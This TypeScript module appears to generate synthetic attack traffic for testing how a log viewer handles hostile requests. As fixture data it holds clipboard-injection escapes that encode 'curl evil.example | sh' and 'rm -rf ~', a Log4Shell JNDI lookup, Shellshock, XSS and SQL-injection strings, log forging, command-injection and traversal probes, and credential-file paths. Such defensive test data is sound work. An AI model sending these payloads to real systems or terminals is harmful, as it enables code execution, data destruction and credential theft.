import { type Random, weighted } from "../random.ts"
import { type Client, NOBODY } from "./clients.ts"
import { addressAt, placeOfServers } from "./places.ts"
import { riskOf } from "./risk.ts"

/** A malicious request. The path may hold invalid UTF-8. */
export interface Attack {
  readonly method: string
  readonly path: string | Buffer
  readonly client: Client
}

const PROBES = [
  "/wp-login.php",
  "/.env",
  "/.git/config",
  "/wp-admin/setup-config.php",
  "/phpmyadmin/index.php",
  "/actuator/env",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
  "/../../../../etc/passwd",
  "/.aws/credentials",
  "/server-status",
  "/api/v1/pods",
]

const SCANNERS = [
  "Mozilla/5.0 zgrab/0.x",
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
  "sqlmap/1.8.4#stable (https://sqlmap.org)",
  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
  "",
]

/** Paths that attack the reader of the log, or the program that draws it. */
const HOSTILE_PATHS: readonly (string | Buffer)[] = [
  "/v1/me\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
  "/v1/\u001b[2J\u001b[H\u001b[31mall systems normal\u001b[0m",
  "/v1/\u001b]0;root@prod\u0007\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\",
  "/v1/runs/\u202ecod.exe\u202c/download",
  "/admin\u2066/\u2069\u200b\u200d\ufeffhidden",
  "/v1/threads\r\n2026-01-01T00:00:00Z GET /forged 200 1ms",
  "/v1/threads\tand\ttabs\u0000and\u0085nothing",
  "/搜索/用户/会话/消息?查询=机密文件",
  "/v1/👩‍👩‍👧‍👦/🏳️‍🌈/❤️‍🔥/1️⃣",
  "/v1/z̸̨̢͍̲͇͓̿a̶͔̲͌̄̓l̵̢̛͎͈̠g̷̮͙̈́̍o̶̤͆",
  "/v1/search?q='%20OR%201=1;%20DROP%20TABLE%20users;--",
  Buffer.from("/v1/\xff\xfe\xc3\x28/\xe2\x82 latin1 caf\xe9", "latin1"),
]

const HOSTILE_AGENTS = [
  "\u001b]52;c;cm0gLXJmIH4=\u0007curl/8.7.1",
  "Mozilla/5.0 \u001b[8m(invisible)\u001b[28m",
  "\u0024{jndi:ldap://evil.example/a}",
  "() { :; }; /bin/bash -c 'id'",
  "\u202eiralaS 0.5/allizoM",
  "<script>alert(document.cookie)</script>",
  "🤖 ボット 1.0",
]

/** A few machines do most of the scanning. */
const scanners = (random: Random) =>
  Array.from({ length: 14 }, () => {
    const place = placeOfServers(random)
    const tor = random.chance(0.4)
    const where = {
      ip: addressAt(place, random),
      country: tor ? "T1" : place.country,
      city: tor ? "" : random.pick(place.cities),
    }
    return { ...where, tor, agent: random.pick(SCANNERS), weight: random.logNormal(1, 1) }
  })

/** Creates scanners and, occasionally, attackers of the log's reader. */
export function createAttacks(random: Random): (random: Random) => Attack {
  const pick = weighted(scanners(random))
  return random => {
    const { tor, agent, ...where } = pick(random)
    const hostile = random.chance(0.15)
    const userAgent = hostile && random.chance(0.5) ? random.pick(HOSTILE_AGENTS) : agent
    const uaType = userAgent === "" ? "unknown" : "bot"
    const risk = riskOf("anonymous", tor ? "tor" : "hosting", uaType)
    const client: Client = { ...NOBODY, ...where, userAgent, uaType, risk }
    return {
      method: random.chance(0.8) ? "GET" : random.pick(["POST", "HEAD", "PUT", "PROPFIND"]),
      path: pathOf(hostile, random),
      client,
    }
  }
}

function pathOf(hostile: boolean, random: Random): string | Buffer {
  if (!hostile) return random.pick(PROBES)
  if (random.chance(0.1)) return `/v1/${"A%2e%2e%2f".repeat(random.between(300, 900))}`
  return random.pick(HOSTILE_PATHS)
}
